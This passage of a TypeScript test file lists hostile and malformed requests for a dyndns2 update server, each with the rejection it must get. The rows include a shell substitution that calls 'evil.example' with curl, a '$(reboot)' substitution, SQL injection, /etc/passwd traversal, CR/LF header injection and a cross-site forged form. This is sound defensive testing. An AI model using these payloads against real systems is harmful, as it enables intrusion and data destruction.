// Hostile and broken requests, each with the dyndns2 answer it must get. Used end to end
// (hostile.test.ts, against the Worker in workerd) and by the unit tests that drive the pure
// modules with the same inputs (test/unit/outcome.test.ts).
//
// The spirit: every bad input gets a clear dyndns2 answer and changes nothing; never a 500;
// never a record written from invalid data. Rows that are odd but valid report the address the
// records already hold (seeded by seedCorpus), so they answer nochg and write nothing either.
//
// Limits of the HTTP stack, measured here (Node 22 fetch → workerd, Miniflare 4, 2026-11):
// - workerd answers 431 "ERROR: header too large." once the request line plus headers pass
//   about 128 KiB (a 128,000-byte query still passes, 200,000 does not). Rows stay under that,
//   and one row goes over to show the answer is a clean 431, not a 5xx from the Worker.
// - Node's fetch refuses to send CR, LF or NUL in a header value and any method it calls
//   forbidden (CONNECT, TRACE), so those only appear percent-encoded in the query.
// - fetch percent-encodes space, ", <, > and non-ASCII in the query, and cuts at "#"; the
//   Worker decodes them again, so `query` below is what the Worker reads, modulo that encoding.
import type { OvhSimulator } from "../../sim/ovh-simulator";
import { HOME_PASSWORD, NEIGHBOUR_PASSWORD, testVars, ZONE } from "../support/fixtures";

export interface HostileRequest {
  name: string;
  method: string;
  path: string;
  /** Raw query string, without "?"; empty for none. */
  query: string;
  headers: Record<string, string>;
  body?: string;
  expect: { status: number; body: string | RegExp };
}

/** Addresses the seeded records hold: valid-but-odd rows report these and answer nochg. */
export const SEEDED = { nasA: "198.51.100.30", firewallA: "198.51.100.7" } as const;

/** testVars plus hosts made for hostile input, and abuse limits out of the way. */
export async function corpusVars(): Promise<Record<string, unknown>> {
  const vars = await testVars();
  const hosts = vars.HOSTS as Record<string, unknown>;
  // No allow_private, and a host_id: the joined address is what gets classified.
  hosts["strict6.example.tld"] = {
    zone: ZONE,
    records: [{ subdomain: "strict6", type: "AAAA", host_id: "::211:32ff:fe12:3456" }],
  };
  // A host_id that collides with a reported prefix cannot be configured: the config check
  // refuses host_id bits above the last 64 without prefix_length (test/unit/config.test.ts).
  // A "k" name, for the Kelvin-sign look-alike.
  hosts["kiosk.example.tld"] = {
    zone: ZONE,
    allow_private: true,
    records: [{ subdomain: "kiosk", type: "A" }],
  };
  // Records from the address and from the prefix: the two must name one network.
  hosts["mixed6.example.tld"] = {
    zone: ZONE,
    allow_private: true,
    records: [
      { subdomain: "mixed6", type: "AAAA", host_id: "::5" },
      { subdomain: "mixed6-box", type: "AAAA" },
    ],
  };
  const clients = vars.CLIENTS as Record<string, { hosts: string[] }>;
  clients.home?.hosts.push("strict6.example.tld", "kiosk.example.tld", "mixed6.example.tld");
  // Every row comes from the same source; none may be refused as abuse instead of its answer.
  vars.SETTINGS = { auth_fail_limit: 10_000, change_limit: 10_000 };
  return vars;
}

/** The records valid-but-odd rows find unchanged. */
export function seedCorpus(sim: OvhSimulator): void {
  sim.addRecord(ZONE, { fieldType: "A", subDomain: "nas", target: SEEDED.nasA, ttl: 120 });
  sim.addRecord(ZONE, { fieldType: "A", subDomain: "firewall", target: SEEDED.firewallA, ttl: 60 });
}

/** Base64 of the UTF-8 bytes (btoa takes Latin-1 only). */
const b64 = (text: string) => Buffer.from(text, "utf8").toString("base64");
export const AUTH = `Basic ${b64(`home:${HOME_PASSWORD}`)}`;
const auth = { Authorization: AUTH };

const NAS = "hostname=nas.example.tld";
const NOCHG_NAS = `nochg ${SEEDED.nasA}\n`;
const bad = (reason: string) => `badrequest: ${reason}\n`;
const METHOD = "badrequest: method not allowed\n";
const NOTFOUND = "badrequest: unknown path; updates go to /nic/update\n";
const REFUSED = (what: string, range: string) =>
  bad(`${what} is not a global address (${range}); set allow_private on the host to accept it`);

/** Ranges no host record may hold, with or without allow_private. */
const NEVER = (what: string, range: string) => bad(`${what} cannot be a host's address (${range})`);

type Row = Omit<HostileRequest, "method" | "path" | "headers"> &
  Partial<Pick<HostileRequest, "method" | "path" | "headers">>;

/** A GET to /nic/update with valid Basic credentials unless the row says otherwise. */
function row(r: Row): HostileRequest {
  return { method: "GET", path: "/nic/update", headers: auth, ...r };
}

const badauth = { status: 401, body: "badauth\n" };
const notfqdn = { status: 200, body: "notfqdn\n" };
const nohost = { status: 200, body: "nohost\n" };
const numhost = { status: 200, body: "numhost\n" };
const nochg = { status: 200, body: NOCHG_NAS };

const credentials: HostileRequest[] = [
  row({
    name: "Basic with characters outside Base64",
    query: NAS,
    headers: { Authorization: "Basic %%%not-base64" },
    expect: badauth,
  }),
  row({
    name: "Basic with a length Base64 cannot have",
    query: NAS,
    headers: { Authorization: "Basic aG9tZTpwdwAAA" },
    expect: badauth,
  }),
  row({
    name: "Basic with padding in the middle",
    query: NAS,
    headers: { Authorization: "Basic aG9t=ZTpwdw==" },
    expect: badauth,
  }),
  row({
    name: "Basic without a colon",
    query: NAS,
    headers: { Authorization: `Basic ${b64("home")}` },
    expect: badauth,
  }),
  row({
    name: "Basic with an empty user",
    query: NAS,
    headers: { Authorization: `Basic ${b64(`:${HOME_PASSWORD}`)}` },
    expect: badauth,
  }),
  row({
    name: "Basic in Latin-1, not UTF-8",
    query: NAS,
    headers: { Authorization: `Basic ${Buffer.from("j\xfcrgen:p\xe4ss", "latin1").toString("base64")}` },
    expect: badauth,
  }),
  row({
    name: "Basic with a Unicode user",
    query: NAS,
    headers: { Authorization: `Basic ${b64("hоme:home-password")}` },
    expect: badauth,
  }),
  row({
    name: "Basic with a NUL after the password",
    query: NAS,
    headers: { Authorization: `Basic ${b64(`home:${HOME_PASSWORD}\0`)}` },
    expect: badauth,
  }),
  row({
    name: "Basic, two tokens",
    query: NAS,
    headers: { Authorization: `${AUTH}, ${AUTH}` },
    expect: badauth,
  }),
  row({
    name: "Bearer scheme",
    query: NAS,
    headers: { Authorization: `Bearer ${b64(`home:${HOME_PASSWORD}`)}` },
    expect: badauth,
  }),
  row({
    name: "Digest scheme",
    query: NAS,
    headers: { Authorization: 'Digest username="home", response="x"' },
    expect: badauth,
  }),
  row({ name: "no credentials at all", query: `${NAS}&myip=${SEEDED.nasA}`, headers: {}, expect: badauth }),
  row({
    name: "wrong password",
    query: NAS,
    headers: { Authorization: `Basic ${b64("home:wrong")}` },
    expect: badauth,
  }),
  row({
    name: "another client's password",
    query: NAS,
    headers: { Authorization: `Basic ${b64(`home:${NEIGHBOUR_PASSWORD}`)}` },
    expect: badauth,
  }),
  row({
    name: "a 10,000-character user in Basic",
    query: NAS,
    headers: { Authorization: `Basic ${b64(`${"u".repeat(10_000)}:x`)}` },
    expect: badauth,
  }),
  row({
    name: "a 10,000-character password in the query",
    query: `${NAS}&username=home&password=${"p".repeat(10_000)}`,
    headers: {},
    expect: badauth,
  }),
  row({
    name: "a 90 KB Authorization header",
    query: NAS,
    headers: { Authorization: `Basic ${"QUFB".repeat(22_500)}` },
    expect: badauth,
  }),
  row({
    name: "SQL in the query user",
    query: `${NAS}&username=home'%20OR%20'1'%3D'1&password=x'%20OR%20'1'%3D'1`,
    headers: {},
    expect: badauth,
  }),
  row({
    name: "shell in the query password",
    query: `${NAS}&username=home&password=$(reboot)`,
    headers: {},
    expect: badauth,
  }),
  row({
    name: "only a user name in the query, no header",
    query: `${NAS}&username=home`,
    headers: {},
    expect: badauth,
  }),
  row({
    name: "two different user names in the query",
    query: `${NAS}&myip=${SEEDED.nasA}&username=home&username=neighbour&password=${HOME_PASSWORD}`,
    headers: {},
    expect: badauth,
  }),
  row({
    name: "two different passwords in the query",
    query: `${NAS}&myip=${SEEDED.nasA}&user=home&pass=${HOME_PASSWORD}&passwd=wrong`,
    headers: {},
    expect: badauth,
  }),
  row({
    name: "right credentials in the query and the header",
    query: `${NAS}&myip=${SEEDED.nasA}&username=home&password=${HOME_PASSWORD}`,
    expect: nochg,
  }),
  row({
    name: "right in the query, wrong in the header: the query counts",
    query: `${NAS}&myip=${SEEDED.nasA}&username=home&password=${HOME_PASSWORD}`,
    headers: { Authorization: `Basic ${b64("home:wrong")}` },
    expect: nochg,
  }),
  row({
    name: "wrong in the query, right in the header: the query counts",
    query: `${NAS}&myip=${SEEDED.nasA}&username=home&password=wrong`,
    expect: badauth,
  }),
  row({
    name: "unreplaced credential placeholders fall back to Basic",
    query: `${NAS}&myip=${SEEDED.nasA}&username=<username>&password=<pass>`,
    expect: nochg,
  }),
];

const hostnames: HostileRequest[] = [
  row({ name: "no hostname", query: `myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({ name: "empty hostname", query: `hostname=&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "hostname placeholder <domain>",
    query: `hostname=<domain>&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({ name: "hostname placeholder %h", query: `hostname=%h&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "hostname placeholder [DOMAIN]",
    query: `hostname=[DOMAIN]&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({ name: "only commas", query: `hostname=,,,&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "21 hostnames",
    query: `hostname=${Array.from({ length: 21 }, (_, i) => `h${i}.example.tld`).join(",")}&myip=${SEEDED.nasA}`,
    expect: numhost,
  }),
  row({
    name: "10,000 hostnames",
    query: `hostname=${Array(10_000).fill("a.b").join(",")}&myip=${SEEDED.nasA}`,
    expect: numhost,
  }),
  row({
    name: "one 100,000-character hostname",
    query: `hostname=${"a".repeat(100_000)}&myip=${SEEDED.nasA}`,
    expect: numhost,
  }),
  row({
    name: "10,000 hostnames in a form body",
    method: "POST",
    query: "",
    headers: { ...auth, "Content-Type": "application/x-www-form-urlencoded" },
    body: `hostname=${Array(10_000).fill("a.b").join(",")}&myip=${SEEDED.nasA}`,
    expect: numhost,
  }),
  row({
    name: "10,000 hostname parameters",
    query: `${"hostname=a.b&".repeat(10_000)}myip=${SEEDED.nasA}`,
    expect: numhost,
  }),
  row({
    name: "punycode name not configured",
    query: `hostname=xn--ns-via.example.tld&myip=${SEEDED.nasA}`,
    expect: nohost,
  }),
  row({ name: "IDN in Unicode", query: `hostname=näs.example.tld&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "Cyrillic а homoglyph",
    query: `hostname=nаs.example.tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({
    name: "Kelvin sign K homoglyph",
    query: `hostname=\u212Aiosk.example.tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({ name: "fullwidth dots", query: `hostname=nas．example．tld&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "ideographic full stops",
    query: `hostname=nas。example。tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({
    name: "fullwidth letters",
    query: `hostname=ｎａｓ.example.tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({
    name: "zero-width space inside",
    query: `hostname=na%E2%80%8Bs.example.tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({ name: "uppercase", query: `hostname=NAS.EXAMPLE.TLD&myip=${SEEDED.nasA}`, expect: nochg }),
  row({ name: "one trailing dot", query: `hostname=nas.example.tld.&myip=${SEEDED.nasA}`, expect: nochg }),
  row({
    name: "two trailing dots",
    query: `hostname=nas.example.tld..&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({ name: "a leading dot", query: `hostname=.nas.example.tld&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({ name: "NUL at the end", query: `hostname=nas.example.tld%00&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "CR/LF and a header inside",
    query: `hostname=nas.example.tld%0D%0AX-Injected:%201&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({
    name: "CR/LF around is only whitespace",
    query: `hostname=%0D%0Anas.example.tld%0D%0A&myip=${SEEDED.nasA}`,
    expect: nochg,
  }),
  row({
    name: "SQL",
    query: `hostname=nas.example.tld'%20OR%20'1'%3D'1&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({
    name: "shell substitution",
    query: `hostname=$(reboot).example.tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({ name: "a wildcard", query: `hostname=*.example.tld&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({ name: "a path", query: `hostname=../../etc/passwd&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({ name: "a port", query: `hostname=nas.example.tld:443&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({ name: "one label", query: `hostname=localhost&myip=${SEEDED.nasA}`, expect: notfqdn }),
  row({
    name: "a 64-character label",
    query: `hostname=${"a".repeat(64)}.example.tld&myip=${SEEDED.nasA}`,
    expect: notfqdn,
  }),
  row({
    name: "another client's host",
    query: `hostname=other.example.tld&myip=${SEEDED.nasA}`,
    expect: nohost,
  }),
  row({ name: "a host nobody has", query: `hostname=nope.example.tld&myip=${SEEDED.nasA}`, expect: nohost }),
  row({
    name: "mixed list: one line per name, in order",
    query: `hostname=nas.example.tld,nope.example.tld,bad_name,NAS.example.tld.&myip=${SEEDED.nasA}`,
    expect: { status: 200, body: `${NOCHG_NAS}nohost\nnotfqdn\n${NOCHG_NAS}` },
  }),
  row({
    name: "hostname and HOSTNAME parameters both count",
    query: `hostname=nas.example.tld&HOSTNAME=nope.example.tld&myip=${SEEDED.nasA}`,
    expect: { status: 200, body: `${NOCHG_NAS}nohost\n` },
  }),
];

const addresses: HostileRequest[] = [
  row({
    name: "IPv4 in two parts (127.1)",
    query: `${NAS}&myip=127.1`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4 in hex (0x7f.0.0.1)",
    query: `${NAS}&myip=0x7f.0.0.1`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4 as one number",
    query: `${NAS}&myip=2130706433`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4 with a leading zero",
    query: `${NAS}&myipv4=198.051.100.30`,
    expect: { status: 400, body: bad("myipv4: not an IPv4 address") },
  }),
  row({
    name: "IPv4 octet above 255",
    query: `${NAS}&myip=198.51.100.256`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4 in fullwidth digits",
    query: `${NAS}&myip=１９８.５１.１００.３０`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4 with a NUL",
    query: `${NAS}&myip=${SEEDED.nasA}%00`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4 with CR/LF and a header",
    query: `${NAS}&myip=${SEEDED.nasA}%0D%0ASet-Cookie:%20a%3Db`,
    expect: { status: 400, body: /^badrequest: myip: [^\r]+\n$/ },
  }),
  row({
    name: "IPv4 with a port",
    query: `${NAS}&myip=${SEEDED.nasA}:80`,
    expect: { status: 400, body: /^badrequest: myip: .+\n$/ },
  }),
  row({
    name: "SQL in myip",
    query: `${NAS}&myip=1.2.3.4'%3B%20DROP%20TABLE%20records%3B--`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "shell in myip",
    query: `${NAS}&myip=$(curl%20evil.example)`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "IPv4-mapped IPv6, dotted",
    query: `${NAS}&myip=::ffff:1.2.3.4`,
    expect: { status: 400, body: bad("myip: IPv6 with an embedded IPv4 address is not allowed") },
  }),
  row({
    name: "NAT64 with dotted IPv4",
    query: `${NAS}&myipv6=64:ff9b::198.51.100.30`,
    expect: { status: 400, body: bad("myipv6: IPv6 with an embedded IPv4 address is not allowed") },
  }),
  row({
    name: "IPv4-mapped IPv6 in hex on a strict host",
    query: "hostname=strict.example.tld&myipv6=::ffff:c633:641e",
    expect: { status: 400, body: NEVER("the IPv6 address", "IPv4-mapped") },
  }),
  row({
    name: "zone id",
    query: `${NAS}&myip=fe80::1%eth0`,
    expect: { status: 400, body: bad("myip: IPv6 zone ids are not allowed") },
  }),
  row({
    name: "zone id, percent-encoded",
    query: `${NAS}&myipv6=fe80::1%25eth0`,
    expect: { status: 400, body: bad("myipv6: IPv6 zone ids are not allowed") },
  }),
  row({
    name: "IPv6 in brackets",
    query: `${NAS}&myipv6=[2001:db8::1]`,
    expect: { status: 400, body: bad("myipv6: not an IPv6 address") },
  }),
  row({
    name: "IPv6 with two ::",
    query: `${NAS}&myipv6=2001:db8::1::2`,
    expect: { status: 400, body: bad("myipv6: not an IPv6 address") },
  }),
  row({
    name: "IPv6 group of five digits",
    query: `${NAS}&myipv6=2001:db8::12345`,
    expect: { status: 400, body: bad("myipv6: not an IPv6 address") },
  }),
  row({
    name: "IPv4 in the IPv6 parameter",
    query: `${NAS}&ip6=${SEEDED.nasA}`,
    expect: { status: 400, body: bad("ip6: not an IPv6 address") },
  }),
  row({
    name: "three addresses in myip",
    query: `${NAS}&myip=${SEEDED.nasA},2001:db8::1,198.51.100.31`,
    expect: { status: 400, body: bad("myip holds more than two addresses") },
  }),
  row({
    name: "myip and MYIP disagree",
    query: `${NAS}&myip=${SEEDED.nasA}&MYIP=198.51.100.31`,
    expect: { status: 400, body: bad("myip gives a second, different IPv4 address") },
  }),
  row({
    name: "myip and myipv4 disagree",
    query: `${NAS}&myip=${SEEDED.nasA}&myipv4=198.51.100.31`,
    expect: { status: 400, body: bad("myipv4 gives a second, different IPv4 address") },
  }),
  row({
    name: "the same address twice is not a conflict",
    query: `${NAS}&myip=${SEEDED.nasA}&ipv4=${SEEDED.nasA}&myip=${SEEDED.nasA}`,
    expect: nochg,
  }),
  row({
    name: "private IPv4 on a strict host",
    query: "hostname=strict.example.tld&myip=192.168.1.10",
    expect: { status: 400, body: REFUSED("the IPv4 address", "private network") },
  }),
  row({
    name: "0.0.0.0 on a strict host",
    query: "hostname=strict.example.tld&myip=0.0.0.0",
    expect: { status: 400, body: NEVER("the IPv4 address", "unspecified") },
  }),
  row({
    name: "broadcast on a strict host",
    query: "hostname=strict.example.tld&myip=255.255.255.255",
    expect: { status: 400, body: NEVER("the IPv4 address", "broadcast") },
  }),
  row({
    name: "multicast on a strict host",
    query: "hostname=strict.example.tld&myip=ff02::1",
    expect: { status: 400, body: NEVER("the IPv6 address", "multicast") },
  }),
  row({
    name: "IPv6 outside 2000::/3 on a strict host",
    query: "hostname=strict.example.tld&myipv6=4000::1",
    expect: { status: 400, body: REFUSED("the IPv6 address", "reserved or documentation range") },
  }),
  row({
    name: "::1 for a host_id record on a strict host (its /64 is ::/64)",
    query: "hostname=strict6.example.tld&myipv6=::1",
    expect: { status: 400, body: REFUSED("the IPv6 address", "reserved or documentation range") },
  }),
  row({
    name: "::/64 prefix for a host_id record on a strict host",
    query: "hostname=strict6.example.tld&ip6lanprefix=::/64",
    expect: { status: 400, body: REFUSED("the prefix", "reserved or documentation range") },
  }),
  row({
    name: "ULA prefix on a strict host",
    query: "hostname=strict6.example.tld&ip6lanprefix=fd00:1:2:3::/64",
    expect: { status: 400, body: REFUSED("the prefix", "unique local, fc00::/7") },
  }),
  row({
    name: "multicast prefix on a strict host",
    query: "hostname=strict6.example.tld&ip6lanprefix=ff00::/64",
    expect: { status: 400, body: NEVER("the prefix", "multicast") },
  }),
];

// allow_private accepts private, ULA, CGNAT, link-local, loopback and documentation addresses
// (README); never addresses that name no single host.
const neverAHost: HostileRequest[] = [
  row({
    name: "0.0.0.0 with allow_private",
    query: `${NAS}&myip=0.0.0.0`,
    expect: { status: 400, body: NEVER("the IPv4 address", "unspecified") },
  }),
  row({
    name: "255.255.255.255 with allow_private",
    query: `${NAS}&myip=255.255.255.255`,
    expect: { status: 400, body: NEVER("the IPv4 address", "broadcast") },
  }),
  row({
    name: "IPv4 multicast with allow_private",
    query: `${NAS}&myip=224.0.0.251`,
    expect: { status: 400, body: NEVER("the IPv4 address", "multicast") },
  }),
  row({
    name: ":: with allow_private",
    query: "hostname=service.example.tld&myipv6=::",
    expect: { status: 400, body: NEVER("the IPv6 address", "unspecified") },
  }),
  row({
    name: "IPv6 multicast with allow_private",
    query: "hostname=service.example.tld&myipv6=ff02::fb",
    expect: { status: 400, body: NEVER("the IPv6 address", "multicast") },
  }),
  row({
    name: "IPv4-mapped IPv6 in hex with allow_private",
    query: "hostname=service.example.tld&myipv6=::ffff:c633:641e",
    expect: { status: 400, body: NEVER("the IPv6 address", "IPv4-mapped") },
  }),
  row({
    name: "a multicast prefix with allow_private",
    query: "hostname=wg-end.example.tld&ip6lanprefix=ff05:1:2:3::/64",
    expect: { status: 400, body: NEVER("the prefix", "multicast") },
  }),
];

const prefixes: HostileRequest[] = [
  ...(
    [
      ["0", "prefix length must be between 16 and 64"],
      ["127", "prefix length must be between 16 and 64"],
      ["128", "prefix length must be between 16 and 64"],
      ["129", "prefix length must be between 16 and 64"],
      ["999", "prefix length must be between 16 and 64"],
      ["1000", "prefix length is not a number"],
      ["-1", "prefix length is not a number"],
      ["64%00", "prefix length is not a number"],
    ] as const
  ).map(([length, reason]) =>
    row({
      name: `prefix length ${length}`,
      query: `hostname=wg-end.example.tld&ip6lanprefix=2001:db8:ab:cd00::/${length}`,
      expect: { status: 400, body: bad(`ip6lanprefix: ${reason}`) },
    }),
  ),
  row({
    name: "prefix without a length",
    query: "hostname=wg-end.example.tld&ipv6prefix=2001:db8:ab:cd00::",
    expect: { status: 400, body: bad("ipv6prefix: prefix must be in CIDR form, like 2001:db8:ab:cd00::/64") },
  }),
  row({
    name: "prefix with a zone id",
    query: "hostname=wg-end.example.tld&prefix=fe80::%25eth0/64",
    expect: { status: 400, body: bad("prefix: prefix: IPv6 zone ids are not allowed") },
  }),
  row({
    name: "IPv4 CIDR as the prefix",
    query: "hostname=wg-end.example.tld&prefix=198.51.100.0/24",
    expect: { status: 400, body: bad("prefix: prefix: not an IPv6 address") },
  }),
  row({
    name: "two different prefixes",
    query: "hostname=wg-end.example.tld&ip6lanprefix=2001:db8:1::/64&ipv6prefix=2001:db8:2::/64",
    expect: { status: 400, body: bad("ip6lanprefix and ipv6prefix disagree") },
  }),
];

const placeholders: HostileRequest[] = [
  // Placeholders are absent values, and a request that names address parameters but fills none
  // carries no address: the connecting address is not used (a FRITZ!Box on DS-Lite sends its
  // IPv4 URL with <ipaddr> empty, over IPv6), so nothing is written.
  row({
    name: "every address placeholder unreplaced: nothing to write, even on a strict host",
    query:
      "hostname=strict.example.tld&myip=<ipaddr>&myipv4=[IP]&ipv6=%i&ip6addr=<ip6addr>&ip6lanprefix=<ip6lanprefix>",
    headers: { ...auth, "CF-Connecting-IP": "" },
    expect: { status: 200, body: "nochg\n" },
  }),
  row({
    name: "placeholders, and a connecting address that is a list",
    query: `${NAS}&myip=<ipaddr>`,
    headers: { ...auth, "CF-Connecting-IP": `${SEEDED.nasA}, 10.0.0.1` },
    expect: { status: 200, body: "nochg\n" },
  }),
  row({
    name: "no address parameter, and a connecting address that is a list",
    query: NAS,
    headers: { ...auth, "CF-Connecting-IP": `${SEEDED.nasA}, 10.0.0.1` },
    expect: { status: 400, body: bad("no address given, and the connecting address is unknown") },
  }),
  row({
    name: "no address parameter, and a connecting address that is not an address",
    query: NAS,
    headers: { ...auth, "CF-Connecting-IP": "unknown" },
    expect: { status: 400, body: bad("no address given, and the connecting address is unknown") },
  }),
  row({
    name: "placeholders do not fall back to the connecting address",
    query: `${NAS}&myip=[IP]&ip6addr=<ip6addr>`,
    headers: { ...auth, "CF-Connecting-IP": "198.51.100.250" },
    expect: { status: 200, body: "nochg\n" },
  }),
  row({
    name: "<ipaddr>,<ip6addr> in myip next to ipv4",
    query: `${NAS}&myip=<ipaddr>,<ip6addr>&ipv4=${SEEDED.nasA}`,
    expect: nochg,
  }),
  row({ name: "a v6 placeholder inside myip", query: `${NAS}&myip=${SEEDED.nasA},<ip6addr>`, expect: nochg }),
  row({
    name: "an unreplaced prefix placeholder",
    query: `${NAS}&myip=${SEEDED.nasA}&ip6lanprefix=<ip6lanprefix>`,
    expect: nochg,
  }),
  row({
    name: "a half-replaced placeholder",
    query: `${NAS}&myip=<ipaddr`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
];

// Names other dyndns2 servers accept, names nobody reads, and what we never do.
const OTHER_SOURCE = { ...auth, "CF-Connecting-IP": "198.51.100.250" };
const otherServers: HostileRequest[] = [
  row({
    name: "ip= (deSEC, UniFi) is the address, not the connecting one",
    query: `ip=${SEEDED.nasA}&hostname=nas.example.tld`,
    headers: OTHER_SOURCE,
    expect: nochg,
  }),
  row({
    name: "myip6= (dyndnsd) is the IPv6 address, not the connecting one",
    query: "hostname=strict.example.tld&myip6=2001:db8::1",
    headers: OTHER_SOURCE,
    expect: { status: 400, body: REFUSED("the IPv6 address", "reserved or documentation range") },
  }),
  row({
    name: "an address under a name nobody reads is not replaced by the connecting address",
    query: `${NAS}&ipaddress=198.51.100.99`,
    headers: OTHER_SOURCE,
    expect: {
      status: 400,
      body: bad(
        'the parameter "ipaddress" holds an address under a name this server does not know; send it as myip',
      ),
    },
  }),
  row({
    name: "offline=YES is refused, not answered with the connecting address",
    query: `${NAS}&offline=YES`,
    headers: OTHER_SOURCE,
    expect: {
      status: 400,
      body: bad(
        "offline=YES is not supported: this server never takes a host offline; leave the parameter out",
      ),
    },
  }),
  row({
    name: "a /48 prefix for a record that keeps 56 bits",
    query: "hostname=wg-end.example.tld&ip6lanprefix=2001:db8:ab::/48",
    expect: {
      status: 400,
      body: bad("wg-end.example.tld: the reported prefix is a /48, shorter than the /56 the record keeps"),
    },
  }),
  row({
    name: "an IPv6 address outside the prefix sent with it, for a host that takes both",
    query: "hostname=mixed6.example.tld&myipv6=2001:db8:9:900::5&ip6lanprefix=2001:db8:1:100::/64",
    expect: {
      status: 400,
      body: bad(
        "mixed6.example.tld: the IPv6 address is outside the reported prefix, so its records would point into two networks",
      ),
    },
  }),
];

// A browser that cached the credentials sends them along with any request a web page makes.
const FORGED = bad(
  "a request from another web site is refused; updates come from dyndns clients, not from web pages",
);
const forgery: HostileRequest[] = [
  row({
    name: "a link from another site (Sec-Fetch-Site: cross-site)",
    query: `${NAS}&myip=198.51.100.99`,
    headers: { ...auth, "Sec-Fetch-Site": "cross-site" },
    expect: { status: 400, body: FORGED },
  }),
  row({
    name: "a page of a sibling subdomain (Sec-Fetch-Site: same-site)",
    query: `${NAS}&myip=198.51.100.99`,
    headers: { ...auth, "Sec-Fetch-Site": "same-site" },
    expect: { status: 400, body: FORGED },
  }),
  row({
    name: "a form posted from another origin",
    method: "POST",
    query: "",
    headers: {
      ...auth,
      Origin: "https://attacker.example",
      "Content-Type": "application/x-www-form-urlencoded",
    },
    body: "hostname=nas.example.tld&myip=198.51.100.99",
    expect: { status: 400, body: FORGED },
  }),
  row({
    name: "a forged request with credentials in the query",
    query: `${NAS}&myip=198.51.100.99&username=home&password=${HOME_PASSWORD}`,
    headers: { Origin: "null", "Sec-Fetch-Site": "cross-site" },
    expect: { status: 400, body: FORGED },
  }),
];

const methodsAndPaths: HostileRequest[] = [
  ...["PUT", "DELETE", "OPTIONS", "PATCH", "PROPFIND"].map((method) =>
    row({
      name: `${method} /nic/update`,
      method,
      query: `${NAS}&myip=${SEEDED.nasA}`,
      expect: { status: 405, body: METHOD },
    }),
  ),
  row({
    name: "HEAD /nic/update",
    method: "HEAD",
    query: `${NAS}&myip=${SEEDED.nasA}`,
    expect: { status: 405, body: "" },
  }),
  row({
    name: "DELETE /update",
    method: "DELETE",
    path: "/update",
    query: NAS,
    expect: { status: 405, body: METHOD },
  }),
  // Hono's router takes a trailing slash as the same route: harmless, it is the update path.
  row({
    name: "path /nic/update/ is the update path",
    path: "/nic/update/",
    query: `${NAS}&myip=${SEEDED.nasA}`,
    expect: nochg,
  }),
  ...[
    "/NIC/UPDATE",
    "/nic/update.php",
    "/nic//update",
    "/nic/update%00",
    "/nic/update;jsessionid=1",
    "/nic",
    "/wp-login.php",
    "/.env",
    "/v3/update",
  ].map((path) =>
    row({
      name: `path ${path}`,
      path,
      query: `${NAS}&myip=${SEEDED.nasA}`,
      expect: { status: 404, body: NOTFOUND },
    }),
  ),
  row({
    name: "POST with a JSON body: the body is not read",
    method: "POST",
    query: "",
    headers: { ...auth, "Content-Type": "application/json" },
    body: JSON.stringify({ hostname: "nas.example.tld", myip: "198.51.100.99" }),
    expect: notfqdn,
  }),
  row({
    name: "POST with a form body over 64 KiB",
    method: "POST",
    query: "",
    headers: { ...auth, "Content-Type": "application/x-www-form-urlencoded" },
    body: `hostname=nas.example.tld&myip=198.51.100.99&pad=${"x".repeat(70_000)}`,
    expect: { status: 400, body: bad("the form body is too large or unreadable") },
  }),
  row({
    name: "POST form with broken escapes",
    method: "POST",
    query: "",
    headers: { ...auth, "Content-Type": "application/x-www-form-urlencoded; charset=utf-8" },
    body: "hostname=%zz%&myip=%",
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
];

const sizes: HostileRequest[] = [
  row({
    name: "a 100 KB header next to a bad address",
    query: `${NAS}&myip=127.1`,
    headers: { ...auth, "X-Padding": "x".repeat(100_000) },
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "a 100 KB User-Agent",
    query: `${NAS}&myip=${SEEDED.nasA}`,
    headers: { ...auth, "User-Agent": `Fritz!Box DDNS/1.0.1 ${"A".repeat(100_000)}` },
    expect: nochg,
  }),
  row({
    name: "500 extra headers",
    query: `${NAS}&myip=127.1`,
    headers: { ...auth, ...Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`X-Extra-${i}`, "y"])) },
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
    name: "a 120 KB query of junk parameters",
    query: `${NAS}&myip=127.1&${"junk=1&".repeat(17_000)}`,
    expect: { status: 400, body: bad("myip: not an IPv4 address") },
  }),
  row({
